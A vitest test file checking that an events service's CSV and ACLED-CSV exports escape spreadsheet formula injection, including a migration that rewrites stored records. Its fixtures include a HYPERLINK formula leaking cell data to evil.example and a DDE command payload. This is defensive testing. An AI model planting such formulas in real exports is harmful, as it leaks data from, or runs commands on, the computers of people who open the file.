// CSV and ACLED-CSV exports are opened in spreadsheets: a text cell that starts with =, +, -, @, a
// tab or a carriage return (or their fullwidth forms) would run as a formula, so it gets a leading
// single quote (OWASP's CSV-injection advice). Numeric columns keep their signs. An ACLED-CSV
// export read back by the import gives the text without the quote.
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../src/modules/events/render/csv.js';
import { eventBody, postEvent, reportBody, unique } from '../helpers/fixtures.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';
import { exportAcled, readAcled, vocabularyOf } from '../acled/acled-helpers.js';

let t: TestApp;
let id: string;
const run = unique();
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const DESCRIPTION = "+cmd|' /C calc'!A0";

/** A cell a spreadsheet would run: one that starts with a formula's first character. */
const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

beforeAll(async () => {
  t = await startTestApp();
  id = await postEvent(
    t.http,
    'hostile',
    eventBody({
      title: HYPERLINK,
      description: DESCRIPTION,
      location: { name: '@SUM(1+1)', admin1: '-2+3', country: 'RUS', lat: -5.5, lon: -10.25, precision: 'exact' },
      participants: [{ actor: { name: `=cmd ${run}`, kind: 'group' }, role: 'perpetrator' }],
      reports: [reportBody({ reporter: { name: `\uFF1Dfullwidth ${run}`, kind: 'media' } })],
      tags: [`-tag${run}`],
    }),
  );
  // A plain event beside it: its cells are written as they are.
  await postEvent(t.http, 'plain', eventBody({ title: `Plain title ${run}`, tags: [`plain${run}`] }));
});
afterAll(async () => {
  await t.close();
});

describe('formula injection in CSV exports', () => {
  it('the CSV export quotes every text cell that a spreadsheet would run; numbers keep their sign', async () => {
    const response = await t.anonymous.get(`/v1/events?format=csv&tag=-tag${run}`).buffer(true).expect(200);
    const rows = parse<Record<(typeof CSV_COLUMNS)[number], string>>(response.text, { columns: true });
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row.id).toBe(id);
    expect(row.title).toBe(`'${HYPERLINK}`);
    expect(row.description).toBe(`'${DESCRIPTION}`);
    expect(row.location_name).toBe("'@SUM(1+1)");
    expect(row.admin1).toBe("'-2+3");
    expect(row.participants).toBe(`perpetrator: =cmd ${run}`);
    expect(row.reporters.startsWith(`'\uFF1Dfullwidth ${run}`)).toBe(true);
    expect(row.tags).toBe(`'-tag${run}`);
    expect(row.lat).toBe('-5.5');
    expect(row.lon).toBe('-10.25');
    for (const [column, value] of Object.entries(row)) {
      if (column !== 'lat' && column !== 'lon') expect(value, column).not.toMatch(RUNS);
    }
  });

  it('a plain event is written as before', async () => {
    const response = await t.anonymous.get(`/v1/events?format=csv&tag=plain${run}`).buffer(true).expect(200);
    const rows = parse<Record<string, string>>(response.text, { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]!.title).toBe(`Plain title ${run}`);
    expect(rows[0]!.lat).toBe('51.6');
  });

  it('the ACLED-CSV export does the same, and its import reads the text back without the quote', async () => {
    const { text, rows } = await exportAcled(t, `tag=-tag${run}`);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row.notes).toBe(`'${DESCRIPTION}`);
    expect(row.location).toBe("'@SUM(1+1)");
    expect(row.admin1).toBe("'-2+3");
    expect(row.actor1).toBe(`'=cmd ${run}`);
    expect(row.source).toBe(`'\uFF1Dfullwidth ${run}`);
    expect(row.latitude).toBe('-5.5');
    expect(row.longitude).toBe('-10.25');
    for (const [column, value] of Object.entries(row)) {
      if (column !== 'latitude' && column !== 'longitude') expect(value, column).not.toMatch(RUNS);
    }
    const [record] = await readAcled(text, await vocabularyOf(t));
    expect(record && 'value' in record).toBe(true);
    const body = (record as { value: Record<string, unknown> }).value as {
      description: string;
      location: { name: string; admin1: string };
      participants: { actor: { name: string } }[];
    };
    expect(body.description).toBe(DESCRIPTION);
    expect(body.location).toMatchObject({ name: '@SUM(1+1)', admin1: '-2+3' });
    expect(body.participants[0]!.actor.name).toBe(`=cmd ${run}`);
  });

  it('the migration writes again the records stored before it, and only those that change', async () => {
    // The record as the first csv_field wrote it: the title bare.
    await t.db.pool.query(`UPDATE events SET rendered_csv = replace(rendered_csv, $2, $3) WHERE id = $1`, [
      id,
      `"'${HYPERLINK.replaceAll('"', '""')}"`,
      `"${HYPERLINK.replaceAll('"', '""')}"`,
    ]);
    const before = await t.anonymous.get(`/v1/events?format=csv&tag=-tag${run}`).buffer(true).expect(200);
    expect(parse<{ title: string }>(before.text, { columns: true })[0]!.title).toBe(HYPERLINK);
    const migration = readFileSync(
      new URL('../../prisma/migrations/20261203093000_csv_formula_guard/migration.sql', import.meta.url),
      'utf8',
    );
    await t.db.pool.query(migration);
    const after = await t.anonymous.get(`/v1/events?format=csv&tag=-tag${run}`).buffer(true).expect(200);
    expect(parse<{ title: string }>(after.text, { columns: true })[0]!.title).toBe(`'${HYPERLINK}`);
  });
});
